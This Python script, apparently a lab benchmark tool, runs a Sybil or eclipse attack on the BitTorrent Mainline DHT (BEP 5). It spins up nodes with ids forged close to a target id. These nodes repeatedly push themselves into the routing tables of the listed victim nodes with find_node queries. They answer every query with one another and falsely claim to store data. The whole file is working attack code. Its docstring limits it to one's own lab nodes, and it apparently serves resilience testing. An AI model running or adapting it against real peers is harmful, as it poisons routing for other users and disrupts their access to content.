"""Hostile nodes of a hash table: `python -m bench.sybils TARGET VICTIM... -- ADDRESS...`.

At each of its addresses one node (BEP 5), whose id is nearer to TARGET (40 hexadecimal digits) than
anybody's by chance. Each makes itself known to the victims ("ip:port") again and again, answers
every question by its likes, says that it stores, and stores nothing. Prints how many questions it
was asked. Nothing of it is of use but against nodes of one's own in a laboratory.
"""

from __future__ import annotations

import asyncio
import os
import socket
import sys
from typing import Any

import libtorrent as lt

PORT = 6881
NEAR_BYTES = 18  # of the id that are the target's
AGAIN_S = 0.5


class Sybil(asyncio.DatagramProtocol):
    """One of them."""

    def __init__(self, crowd: Crowd, address: str) -> None:
        self.id = crowd.target[:NEAR_BYTES] + os.urandom(20 - NEAR_BYTES)
        self.compact = self.id + socket.inet_aton(address) + PORT.to_bytes(2)
        self._crowd = crowd

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self.transport: Any = transport

    def datagram_received(self, data: bytes, who: tuple[str, int]) -> None:
        try:
            message = lt.bdecode(data)
        except RuntimeError:
            return
        if not isinstance(message, dict) or message.get(b"y") != b"q":
            return
        self._crowd.asked += 1
        answer = {b"id": self.id, b"nodes": self._crowd.likes(), b"token": b"sybil"}
        self.say({b"y": b"r", b"t": message.get(b"t", b""), b"r": answer}, who)

    def say(self, message: dict[bytes, Any], who: tuple[str, int]) -> None:
        self.transport.sendto(lt.bencode(message), who)

    def court(self, victim: tuple[str, int]) -> None:
        """Be known: who answers a question is taken up into the asked one's table."""
        wanted = {b"id": self.id, b"target": self._crowd.target}
        self.say({b"y": b"q", b"q": b"find_node", b"t": os.urandom(2), b"a": wanted}, victim)


class Crowd:
    """All of them."""

    def __init__(self, target: bytes, victims: list[tuple[str, int]]) -> None:
        self.target, self.victims = target, victims
        self.asked = 0
        self.nodes: list[Sybil] = []

    def likes(self) -> bytes:
        """Eight of them, as answers carry nodes (BEP 5, "compact node info")."""
        start = self.asked % max(len(self.nodes), 1)
        return b"".join(n.compact for n in (self.nodes + self.nodes)[start : start + 8])

    async def gather(self, addresses: list[str]) -> None:
        loop = asyncio.get_running_loop()
        for address in addresses:
            _, node = await loop.create_datagram_endpoint(
                lambda address=address: Sybil(self, address),  # type: ignore[misc]
                local_addr=(address, PORT),
            )
            self.nodes.append(node)
        print("up", flush=True)
        while True:
            for node in self.nodes:
                for victim in self.victims:
                    node.court(victim)
            await asyncio.sleep(AGAIN_S)
            print(self.asked, flush=True)


def main() -> None:
    cut = sys.argv.index("--")
    victims = [(at.partition(":")[0], int(at.partition(":")[2])) for at in sys.argv[2:cut]]
    asyncio.run(Crowd(bytes.fromhex(sys.argv[1]), victims).gather(sys.argv[cut + 1 :]))


if __name__ == "__main__":
    main()
